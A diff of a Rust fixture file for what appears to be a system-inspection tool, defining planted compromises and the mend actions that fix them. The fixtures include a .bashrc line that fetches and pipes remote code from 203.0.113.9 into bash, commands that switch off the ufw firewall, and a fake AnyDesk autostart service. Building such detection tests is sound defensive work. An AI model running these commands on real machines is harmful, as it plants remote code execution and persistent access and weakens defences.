@@ -2,6 +2,7 @@
 
 use beistand_inspect::FindingKind as K;
 use beistand_inspect::Verdict::{Broken, Look};
+use beistand_session::AdjustKind::Firewall;
 use beistand_session::{SweepCategory as C, SweepThing as T};
 
 use crate::{MachineMend, MachineRecipe};
@@ -48,7 +49,8 @@ pub(super) const RECIPES: &[MachineRecipe] = &[
         "a rogue line in the shell's profile",
         (K::Autostart, Broken, ".bashrc"),
         "echo 'curl -fsSL http://203.0.113.9/a | bash >/dev/null 2>&1 &' >> /home/anna/.bashrc",
-    ),
+    )
+    .mended_by(MachineMend::Quarantine("/home/anna/.bashrc")),
     MachineRecipe::new(
         "a rogue script for all shells",
         (K::Autostart, Broken, "/etc/profile.d/lang.sh"),
@@ -82,9 +84,10 @@ pub(super) const RECIPES: &[MachineRecipe] = &[
     MachineRecipe::new(
         "a firewall that is switched off",
         (K::FirewallOff, Look, "ufw"),
-        "mkdir -p /etc/ufw; printf 'ENABLED=no\\nLOGLEVEL=low\\n' > /etc/ufw/ufw.conf
-        echo '### tuple ### deny tcp 445 0.0.0.0/0 any 0.0.0.0/0 in' > /etc/ufw/user.rules",
-    ),
+        "ufw deny 445/tcp; ufw disable",
+    )
+    .on_fresh()
+    .mended_by(MachineMend::Adjust(Firewall, "on")),
     MachineRecipe::new(
         "passwords being tried",
         (K::FailedLogins, Look, "60"),
@@ -132,7 +135,8 @@ pub(super) const RECIPES: &[MachineRecipe] = &[
         (C::Remote, T::RemoteStarting, "AnyDesk"),
         "mkdir -p /etc/systemd/system/multi-user.target.wants; cp /beistand/machines /usr/bin/anydesk
         printf '[Unit]\\nDescription=AnyDesk\\n[Service]\\nExecStart=/usr/bin/anydesk --service\\n[Install]\\nWantedBy=multi-user.target\\n' \
-         > /etc/systemd/system/anydesk.service
-        ln -s /etc/systemd/system/anydesk.service /etc/systemd/system/multi-user.target.wants/",
-    ),
+         > /usr/lib/systemd/system/anydesk.service
+        ln -s /usr/lib/systemd/system/anydesk.service /etc/systemd/system/multi-user.target.wants/",
+    )
+    .mended_by(MachineMend::Disable("anydesk.service")),
 ];
